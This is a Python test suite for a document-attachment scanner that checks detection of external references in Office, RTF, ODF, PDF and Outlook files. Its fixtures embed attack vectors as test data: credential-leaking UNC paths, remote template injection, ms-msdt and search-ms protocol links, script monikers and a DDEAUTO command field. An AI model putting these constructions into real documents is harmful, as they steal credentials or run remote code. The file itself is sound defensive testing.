"""What documents of every format refer to: fetched on opening from elsewhere, handing over credentials, or harmless."""

from __future__ import annotations

import struct
from collections.abc import Callable

import pytest

from attachguard import Policy, Scanner
from attachguard.testkit import rtf as testkit

from .fixtures import doc, msg, odf, ooxml, pdf, rtf, tnef, xls
from .fixtures.cfb import build
from .fixtures.oleobjects import URL_MONIKER

STRICT = Scanner(Policy.load("strict"))
CITY = Scanner(Policy.load("kaiserslautern"))
UNC = r"\\203.0.113.5\s\a"
OWN = r"\\fileserver01\Vorlagen\a"
FILE_MONIKER = bytes.fromhex("0303000000000000c000000000000046")
SCRIPT_MONIKER = bytes.fromhex("d30b2906aa48d2118432006008c3fbfc")


def xml(address: str) -> str:
    return address.replace("&", "&amp;").replace('"', "&quot;")


def pdf_text(address: str) -> bytes:
    return b"(" + address.replace("\\", "\\\\").encode() + b")"


def code(address: str) -> str:
    """An address as field codes write it."""
    return address.replace("\\", "\\\\")


def word_link(kind: str, address: str) -> bytes:
    return ooxml.word(links=(("rId9", kind, xml(address), "External"),))


def word_field(name: str, address: str) -> bytes:
    return ooxml.word(ooxml.field(xml(f' {name} "{code(address)}" ')))


def rtf_field(name: str, address: str) -> bytes:
    return rtf.document(rf'{{\field{{\*\fldinst {name} "{code(code(address))}"}}{{\fldrslt x}}}}')


def rtf_template(address: str) -> bytes:
    return rtf.document("").replace(rb"\deff0", rb"\deff0{\*\template " + code(address).encode() + b"}")


def doc_field(name: str, address: str) -> bytes:
    return build(doc.streams(f'\x13 {name} "{code(address)}" \x14x\x15'), doc.CLSID)


def url_link(address: str) -> bytes:
    raw = (address + "\0").encode("utf-16-le")
    return struct.pack("<IIIII", 0x02000001, 1, 0, 0, 0) + URL_MONIKER + struct.pack("<I", len(raw)) + raw


def file_link(address: str) -> bytes:
    raw = address.encode() + b"\0"
    wide = address.encode("utf-16-le")
    return (
        bytes(20) + FILE_MONIKER + struct.pack("<HI", 0, len(raw)) + raw + struct.pack("<HH", 0xFFFF, 0xDEAD) + bytes(20)
        + struct.pack("<IIH", len(wide) + 6, len(wide), 3) + wide
    )  # fmt: skip


def in_rtf(link: bytes) -> bytes:
    return rtf.with_object(rtf.ole1("OLE2Link", build({"\x01Ole": link})).hex(), words=r"\objautlink\objupdate")


def in_doc(link: bytes) -> bytes:
    return build({**doc.streams(), "ObjectPool/_9/\x01Ole": link}, doc.CLSID)


def sheet_link(address: str) -> bytes:
    path = "\x01" + address.replace("\\\\", "\x01@", 1).replace("\\", "\x03")
    body = struct.pack("<HHB", 1, len(path), 0) + path.encode("latin-1") + struct.pack("<HB", 1, 0) + b"x"
    return xls.file(xls.workbook([("Tabelle1", 0, 0)], extra=xls.record(0x01AE, body)))


def open_document(element: str, address: str) -> bytes:
    return odf.document(body=f'<draw:{element} xlink:href="{xml(address)}"/>')


def pdf_action(kind: str, address: str) -> bytes:
    key = b"/URI" if kind == "URI" else b"/F"
    return pdf.pdf(
        {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/%s%s%s>>>>" % (kind.encode(), key, pdf_text(address))}
    )


def pdf_link(kind: str, address: str) -> bytes:
    key = b"/URI" if kind == "URI" else b"/F"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Annots[5 0 R]>>"
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/%s%s%s>>>>" % (kind.encode(), key, pdf_text(address))
    return pdf.pdf({3: page, 5: link})


def reminder_tnef(address: str) -> bytes:
    value = (address + "\0").encode("utf-16-le")
    name = bytes.fromhex("0820060000000000c000000000000046") + struct.pack("<II", 0, 0x851F)
    named = struct.pack("<HH", 0x1F, 0x8001) + name + struct.pack("<II", 1, len(value)) + tnef.padded(value)
    return tnef.tnef(tnef.attribute(1, 0x00069003, tnef.properties(named)))


def reminder_msg(address: str) -> bytes:
    streams = msg.message("Termin")
    streams["__nameid_version1.0/__substg1.0_00030102"] = struct.pack("<IHH", 0x8501, 0, 0) + struct.pack(
        "<IHH", 0x851F, 6, 1
    )
    streams["__substg1.0_8001001F"] = address.encode("utf-16-le")
    return msg.file(streams)


def inner_reminder(address: str) -> bytes:
    inner = "__attach_version1.0_#00000000/__substg1.0_3701000D/"
    return msg.file(
        {
            **msg.message("aussen"),
            **msg.message("innen", above=inner),
            inner + "__substg1.0_8001001F": address.encode("utf-16-le"),
        }
    )


def msg_attachment(address: str) -> bytes:
    return msg.file(
        {**msg.message("x"), "__attach_version1.0_#00000000/__substg1.0_370D001F": address.encode("utf-16-le")}
    )


def tnef_attachment(address: str) -> bytes:
    value = (address + "\0").encode("utf-16-le")
    return tnef.tnef(tnef.attachment(b"a.doc", None, tnef.prop(0x370D, 0x1F, value)))


Made = Callable[[str], bytes]
#: What is followed on opening, by name of the file.
OPENED: list[tuple[str, Made]] = [
    *(("a.docx", lambda address, kind=kind: word_link(kind, address)) for kind in ("image", "oleObject", "frame", "subDocument", "externalLinkPath", "audio", "strange")),
    *(("a.docx", lambda address, name=name: word_field(name, address)) for name in ("INCLUDEPICTURE", "INCLUDETEXT", "LINK Word.Document.8", "DATABASE \\d")),
    *(("a.rtf", lambda address, name=name: rtf_field(name, address)) for name in ("INCLUDEPICTURE", "INCLUDETEXT")),
    ("a.doc", lambda address: doc_field("INCLUDEPICTURE", address)),
    ("a.rtf", lambda address: in_rtf(url_link(address))),
    ("a.rtf", lambda address: in_rtf(file_link(address))),
    ("a.doc", lambda address: in_doc(url_link(address))),
    ("a.doc", lambda address: in_doc(file_link(address))),
    ("a.rtf", lambda address: rtf.with_object(testkit.ole1_link("Word.Document.8", address).hex(), words=r"\objautlink")),
    ("a.xls", sheet_link),
    *(("a.odt", lambda address, name=name: open_document(name, address)) for name in ("image", "object", "floating-frame", "plugin")),
    *(("a.pdf", lambda address, name=name: pdf_action(name, address)) for name in ("GoToR", "GoToE", "ImportData", "SubmitForm", "URI")),
    ("a.dat", reminder_tnef),
    ("a.msg", reminder_msg),
    ("a.msg", inner_reminder),
]  # fmt: skip
#: What waits for a click.
CLICKED: list[tuple[str, Made]] = [
    ("a.docx", lambda address: word_link("hyperlink", address)),
    ("a.docx", lambda address: word_field("HYPERLINK", address)),
    ("a.rtf", lambda address: rtf_field("HYPERLINK", address)),
    ("a.doc", lambda address: doc_field("HYPERLINK", address)),
    ("a.odt", lambda address: odf.document(body=f'<text:a xlink:href="{xml(address)}">x</text:a>')),
    ("a.pdf", lambda address: pdf_link("URI", address)),
    ("a.pdf", lambda address: pdf_link("GoToR", address)),
    ("a.msg", msg_attachment),
]
TEMPLATES: list[tuple[str, Made]] = [
    ("a.docx", lambda address: word_link("attachedTemplate", address)),
    ("a.rtf", rtf_template),
    ("a.odt", lambda address: odf.document(body=f'<meta:template xlink:href="{xml(address)}"/>')),
]


def kinds(data: bytes, name: str) -> set[str]:
    report = STRICT.scan(data, kind="file", name=name)
    return {finding.kind for finding in report.findings if finding.code == "external-reference"}


def strict(data: bytes, name: str) -> str:
    return STRICT.scan(data, kind="file", name=name).verdict.action.value


@pytest.mark.parametrize(("name", "made"), OPENED)
@pytest.mark.parametrize("address", [UNC, "file://203.0.113.5/s/a"])
def test_a_network_path_that_is_followed_on_opening_is_refused(name, made, address):
    assert "network-path" in kinds(made(address), name)
    assert strict(made(address), name) == "reject"


@pytest.mark.parametrize(("name", "made"), CLICKED)
def test_a_link_to_a_network_path_is_refused_and_has_a_kind_of_its_own(name, made):
    assert "network-path-link" in kinds(made(UNC), name)
    assert strict(made(UNC), name) == "reject"


@pytest.mark.parametrize(("name", "made"), [*OPENED, *CLICKED])
@pytest.mark.parametrize("address", [OWN, r"C:\Vorlagen\a"])
def test_the_own_network_and_the_own_disk_refuse_nothing(name, made, address):
    assert not {"network-path", "network-path-link", "remote-code", "ole-link-remote"} & kinds(made(address), name)


@pytest.mark.parametrize(("name", "made"), CLICKED[:6])
def test_links_to_the_web_are_nothing(name, made):
    assert not kinds(made("https://www.kaiserslautern.de/a"), name)


@pytest.mark.parametrize(("name", "made"), CLICKED[:6])
def test_links_that_run_something_are_refused(name, made):
    assert "protocol-link" in kinds(made("ms-msdt:/id PCWDiagnostic"), name)
    assert strict(made("search-ms:query=a&crumb=location:a"), name) == "reject"


@pytest.mark.parametrize(("name", "made"), TEMPLATES)
@pytest.mark.parametrize("address", ["https://example.org/a.dotm", UNC, "http://203.0.113.5/a"])
def test_a_template_from_elsewhere_is_refused_everywhere(name, made, address):
    assert "attached-template" in kinds(made(address), name)
    assert strict(made(address), name) == "reject"
    assert CITY.scan(made(address), kind="file", name=name).verdict.action.value == "discard"


@pytest.mark.parametrize(("name", "made"), TEMPLATES)
@pytest.mark.parametrize(
    "address",
    [
        OWN,
        r"file:///\\srv.verwaltung.local\v\a.dotx",
        "http://intranet/a.dotx",
        "https://10.1.2.3/a.dotx",
        r"\\nas.lan\v\a.dotm",
    ],
)
def test_a_template_on_the_own_network_is_told_and_never_dropped(name, made, address):
    assert kinds(made(address), name) == {"own-network-reference"}
    assert CITY.scan(made(address), kind="file", name=name).verdict.action.value != "discard"


@pytest.mark.parametrize("kind", ["frame", "subDocument", "aFChunk", "control", "vbaProject"])
def test_what_acts_in_a_document_does_not_come_from_elsewhere(kind):
    assert kinds(word_link(kind, "https://example.org/x"), "a.docx") == {"remote-code"}
    assert strict(word_link(kind, "https://example.org/x"), "a.docx") == "reject"


@pytest.mark.parametrize(
    "address", ["script:https://example.org/x.sct", "mhtml:https://example.org/x!y", "soap:wsdl=http://example.org/x"]
)
def test_a_moniker_is_refused(address):
    assert kinds(word_link("oleObject", address), "a.docx") == {"protocol-moniker"}
    assert "protocol-moniker" in kinds(in_rtf(url_link(address)), "a.rtf")


def test_a_script_moniker_is_known_by_its_class():
    assert "protocol-moniker" in kinds(in_rtf(file_link(r"C:\x.sct") + SCRIPT_MONIKER), "a.rtf")


@pytest.mark.parametrize("kind", ["image", "video", "externalLinkPath"])
def test_pictures_and_workbooks_of_the_web_are_flagged(kind):
    assert kinds(word_link(kind, "https://example.org/x"), "a.docx") <= {"fetched-content", "linked-picture"}
    assert strict(word_link(kind, "https://example.org/x"), "a.docx") == "flag"


def test_no_number_of_pictures_hides_a_template():
    links = [(f"rId{number}", "image", f"https://example.org/{number}.png", "External") for number in range(10, 60)]
    links.append(("rId99", "attachedTemplate", "https://example.org/x.dotm", "External"))
    assert "attached-template" in kinds(ooxml.word(links=links), "a.docx")


def test_no_number_of_fields_hides_another():
    fields = "".join(ooxml.field(f' INCLUDEPICTURE "https://host{number}.example.org/a.png" ') for number in range(40))
    report = STRICT.scan(ooxml.word(fields + ooxml.field(" DDEAUTO cmd /c calc ")), name="a.docx")
    assert "dde-field" in {finding.kind for finding in report.findings}


def test_a_connection_string_may_hold_a_network_path():
    text = f'<connections xmlns="x"><connection id="1"><dbPr connection="Provider=x;Data Source={UNC}.mdb;Mode=Read"/></connection></connections>'
    assert "network-path" in kinds(ooxml.excel(parts={"xl/connections.xml": text}), "a.xlsx")


def test_a_linked_attachment_of_tnef_says_where_it_lies():
    assert "network-path-link" in kinds(tnef_attachment(UNC), "winmail.dat")


@pytest.mark.parametrize(("name", "made"), OPENED[-3:])
def test_cut_files_with_a_reminder_never_raise(name, made):
    whole = made(UNC)
    for end in range(0, len(whole), 97):
        STRICT.scan(whole[:end], kind="file", name=name)
